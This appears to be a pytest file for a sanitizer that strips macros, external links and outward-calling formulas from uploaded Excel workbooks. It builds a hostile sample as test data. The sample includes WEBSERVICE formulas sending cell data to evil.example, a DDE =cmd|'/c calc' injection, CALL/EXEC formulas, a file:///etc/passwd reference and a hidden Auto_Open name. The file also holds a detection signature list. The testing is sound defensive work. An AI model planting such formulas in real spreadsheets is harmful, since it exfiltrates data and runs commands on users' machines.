"""A returned copy of a hostile workbook: nothing in it runs or calls out, and what only calculates stays."""

import contextlib
import io
import re
import zipfile

import openpyxl
import pytest
from openpyxl.chart import BarChart, Reference
from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.formula import ArrayFormula
from openpyxl.worksheet.hyperlink import Hyperlink

from checks import active_content, ledger_workbook, returned_copies
from checks.foreign_rows import Foreign
from tests import handed_out
from warehouse.storage.limited_process import LimitedProcess

PARTS = {
    "xl/vbaProject.bin": b"macro",
    "xl/externalLinks/externalLink1.xml": b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
    "xl/connections.xml": b'<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
    "xl/embeddings/oleObject1.bin": b"ole",
    "xl/activeX/activeX1.xml": b"<ax/>",
    "customUI/customUI14.xml": b"<customUI/>",
    "docProps/custom.xml": "",
}
OUTWARD = (
    "=[1]走访!A1",
    "='[1]走 访'!A1+1",
    '=WEBSERVICE("http://evil.example/?"&B2)',
    "=_xlfn.WEBSERVICE(B2)",
    '=HYPERLINK("http://evil.example","看")',
    "=cmd|'/c calc'!A0",
    '=IMPORTXML("http://evil.example","//a")',
    '=IF(1,RTD("x",,"y"),0)',
    '=CALL("urlmon","x","J",0)',
    '=EXEC("calc")',
    "=SUM(1,INDIRECT(\"'file:///etc/passwd'#$a.A1\"))",
    "=我的宏()",
    '=IMAGE("http://evil.example/a.png")',
    '=DDE("soffice","x","y")',
    '=SQL.REQUEST("x")',
    "='file:///etc/x.ods'#$甲.A1",
    "=取数",
)
INWARD = ('=IF(B2="[1]http://a|b!","是","否")', "=SUM(B2:B9)", "=$B$2*2-COUNTIF(B:B,1)", '=TEXT(TODAY(),"yyyy-mm-dd")')
CALLS = 'WEBSERVICE("http://evil.example/?"&amp;ENCODEURL($A$2))'
# What a workbook may hold in a sheet besides its cells; each calls out or tells who wrote it.
RULES = (
    f'<conditionalFormatting sqref="A1:A9"><cfRule type="colorScale" priority="1"><colorScale><cfvo type="formula" val=\'{CALLS}\'/>'
    '<cfvo type="max"/><color rgb="FFF8696B"/><color rgb="FF63BE7B"/></colorScale></cfRule></conditionalFormatting>'
    '<conditionalFormatting sqref="B1:B9"><cfRule type="dataBar" priority="2"><dataBar><cfvo type="formula" val="[1]S!A1"/>'
    '<cfvo type="max"/><color rgb="FF638EC6"/></dataBar></cfRule></conditionalFormatting>'
    '<conditionalFormatting sqref="C1:C9"><cfRule type="iconSet" priority="3"><iconSet><cfvo type="percent" val="0"/>'
    '<cfvo type="formula" val="[1]S!A1"/><cfvo type="percent" val="67"/></iconSet></cfRule></conditionalFormatting>'
)
NAMES = '<definedName name="_xlnm.Auto_Open" hidden="1">\'走 访\'!$A$1</definedName>'
CUSTOM = (
    '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties"'
    ' xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">'
    '<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="谁"><vt:lpwstr>张甲乙</vt:lpwstr></property></Properties>'
)


def hostile() -> bytes:
    """A workbook with every way out that is known, and formulas that only calculate."""
    book, kept = openpyxl.Workbook(), io.BytesIO()
    sheet = book.active
    book.create_sheet("走 访")
    book.defined_names["取数"] = DefinedName("取数", attr_text="[1]走访!$A$1")
    book.defined_names["本表"] = DefinedName("本表", attr_text="'走 访'!$A$1")
    for row, formula in enumerate((*OUTWARD, *INWARD), 2):
        sheet.cell(row, 1, formula)
    sheet["C2"] = ArrayFormula("C2:C3", "=WEBSERVICE(B2:B3)")
    sheet["D2"], sheet["D3"] = "网页", "本表"
    sheet["D2"].hyperlink, sheet["D3"].hyperlink = "http://evil.example/link", Hyperlink("D3", location="'走 访'!A1")
    sheet["D4"] = "别处"
    sheet["D4"].hyperlink = Hyperlink("D4", location="'[http://evil.example/x.xlsx]S'!A1")
    book.properties.creator = book.properties.lastModifiedBy = book.properties.title = "张甲乙"
    for formula in ("=[1]走访!$A:$A", "=$B$2:$B$9"):
        rule = DataValidation(type="list", formula1=formula)
        rule.add("E2")
        sheet.add_data_validation(rule)
        sheet.conditional_formatting.add("F2", FormulaRule(formula=[formula[1:]]))
    chart = BarChart()
    chart.add_data(Reference(sheet, range_string="'[1]走访'!$A$1:$A$3"))
    sheet.add_chart(chart, "H2")
    book.save(kept)
    return with_parts(kept.getvalue())


def with_parts(content: bytes) -> bytes:
    """The workbook as a macro workbook with PARTS in it, named where Excel looks for them."""
    kept = io.BytesIO()
    kinds = {"xl/vbaProject.bin": "vbaProject", "xl/externalLinks/externalLink1.xml": "externalLink", "xl/connections.xml": "connections"}
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    links = "".join(f'<Relationship Id="x{at}" Type="{base}/{kind}" Target="/{part}"/>' for at, (part, kind) in enumerate(kinds.items()))
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(kept, "w") as new:
        for name in old.namelist():
            body = old.read(name).decode()
            if name.endswith("workbook.xml.rels"):
                body = body.replace("</Relationships>", links + "</Relationships>")
            if name == "[Content_Types].xml":
                body = body.replace("spreadsheetml.sheet.main+xml", "sheet.macroEnabled.main+xml").replace(
                    "openxmlformats-officedocument.sheet", "ms-excel.sheet"
                )
            if name == "xl/worksheets/sheet1.xml":  # what Excel calculated last, beside the first formula
                body = re.sub(r"(<c r=\"A2\"[^>]*>)<f>(.*?)</f><v></v>", r"\1<f>\2</f><v>42</v>", body)
                body = body.replace("<conditionalFormatting", RULES + "<conditionalFormatting", 1)
            if name == "xl/workbook.xml":
                body = body.replace("</definedNames>", NAMES + "</definedNames>")
            new.writestr(name, body)
        for name, body in PARTS.items():
            new.writestr(name, body or CUSTOM)
    return kept.getvalue()


@pytest.fixture(scope="module")
def copy():
    """The returned copy of the hostile workbook."""
    return returned_copies.copy(original(hostile())).content


def original(content, **more):
    """A file as it was handed in."""
    return returned_copies.Original("0" * 16, "柳溪村走访.xlsm", content, [], frozenset(), "zh_CN", **more)


def test_a_copy_is_made_of_known_parts_elements_and_attributes_alone_and_relations_lead_to_its_parts(copy):
    assert handed_out.faults(copy, "copy") == []


def test_no_macro_object_connection_or_link_to_elsewhere_is_left_in_the_package(copy):
    package = zipfile.ZipFile(io.BytesIO(copy))
    parts = {name: package.read(name).decode("utf-8", "replace") for name in package.namelist()}
    signs = "evil.example External macroEnabled vbaProject [1]走访 WEBSERVICE cmd| /etc/ 取数</ EXEC [1]S Auto_Open 张甲乙 openpyxl cfvo".split()
    for sign in signs:
        assert [name for name, body in parts.items() if sign in body] == [], sign


def test_formulas_that_calculate_within_their_sheet_stay_and_others_give_way_to_their_last_value(copy):
    book = openpyxl.load_workbook(io.BytesIO(copy))
    sheet = book["Sheet"]
    assert [sheet.cell(row, 1).value for row in range(2, 2 + len(OUTWARD))] == [42] + [None] * (len(OUTWARD) - 1)
    assert [sheet.cell(row, 1).value for row in range(2 + len(OUTWARD), 2 + len(OUTWARD) + len(INWARD))] == list(INWARD)
    assert (sheet["C2"].value, sheet["D2"].value, sheet["D2"].hyperlink, sheet["D3"].hyperlink) == (None, "网页", None, None)
    assert (list(book.defined_names), sheet.data_validations.dataValidation, list(sheet.conditional_formatting), sheet._charts) == (
        [],
        [],
        [],
        [],
    )


def test_a_list_of_words_to_choose_from_stays():
    book, kept = openpyxl.Workbook(), io.BytesIO()
    for formula in ('"男,女"', '"=1,2"', "=B1:B2"):
        rule = DataValidation(type="list", formula1=formula)
        rule.add("A1:A9")
        book.active.add_data_validation(rule)
    book.save(kept)
    copy = ledger_workbook.open_workbook(kept.getvalue()).book
    assert [(rule.formula1, str(rule.sqref)) for rule in copy.active.data_validations.dataValidation] == [('"男,女"', "A1:A9")]


def test_the_list_says_what_was_left_out(copy):
    told = openpyxl.load_workbook(io.BytesIO(copy)).worksheets[0]["A2"].value
    assert all(word in told for word in ("没有放", "宏", "引用别处", "嵌入的对象"))


def test_of_an_ordinary_workbook_nothing_is_said_to_be_left_out():
    book, kept = openpyxl.Workbook(), io.BytesIO()
    book.active.append(["姓名", "=1+2"])
    book.save(kept)
    assert ledger_workbook.open_workbook(kept.getvalue()).removed == set()


def test_a_text_that_looks_like_a_formula_stays_a_text_when_it_was_a_formulas_last_value():
    book, kept = openpyxl.Workbook(), io.BytesIO()
    book.active["A1"] = "=[1]甲!A1"
    book.save(kept)
    with zipfile.ZipFile(kept) as old, zipfile.ZipFile(last := io.BytesIO(), "w") as new:
        for name in old.namelist():
            body = old.read(name).decode()
            new.writestr(name, re.sub(r'<c r="A1"(.*?)><f>.*?</c>', r'<c r="A1"\1 t="str"><f>[1]甲!A1</f><v>=1+1</v></c>', body))
    cell = ledger_workbook.open_workbook(last.getvalue()).book.active["A1"]
    assert (cell.value, cell.data_type) == ("=1+1", "s")


def test_macros_of_an_old_workbook_are_told_of():
    assert active_content.parts(b"\xd0\xcf\x11\xe0" + "_VBA_PROJECT_CUR".encode("utf-16-le")) == {active_content.MACROS}


def test_a_small_file_that_grows_costs_its_own_copy_alone():
    book, kept = openpyxl.Workbook(), io.BytesIO()
    book.active["A1"] = "姓名"
    book.save(kept)
    with zipfile.ZipFile(kept) as old, zipfile.ZipFile(grown := io.BytesIO(), "w") as new:
        for name in old.namelist():
            body = old.read(name).decode()
            new.writestr(
                name, body.replace("</sheetData>", '</sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>')
            )
    with contextlib.closing(LimitedProcess(returned_copies._answer, memory=200 * 2**20)) as process:
        assert process.ask(original(grown.getvalue()), 60.0).content is None
        assert process.ask(original(kept.getvalue()), 60.0).content


FOREIGN = Foreign(frozenset(["石桥村"]), frozenset(["65990120120403142X"]), frozenset(["李丙", "王丁"]))


@pytest.mark.parametrize(
    ("cells", "state", "is_foreign"),
    [
        (["65990120120403142X"], "visible", True),  # in a sheet that was read too
        (["李丙", "王丁"], "visible", False),
        (["石桥村"], "visible", False),  # in a note, perhaps
    ],
)
@pytest.mark.parametrize("is_read", [True, False])
def test_a_child_of_another_village_is_told_by_its_number_and_where_nobody_read_by_names_or_the_village(cells, state, is_foreign, is_read):
    book, kept = openpyxl.Workbook(), io.BytesIO()
    book.active.title = "汇总"
    book.active.sheet_state = state
    book.create_sheet("别的")
    book.active.append(cells)
    book.save(kept)
    source = original(kept.getvalue(), foreign=FOREIGN)._replace(read_sheets=frozenset(["汇总"] if is_read else []))
    assert returned_copies.copy(source).is_foreign == (is_foreign or not is_read)
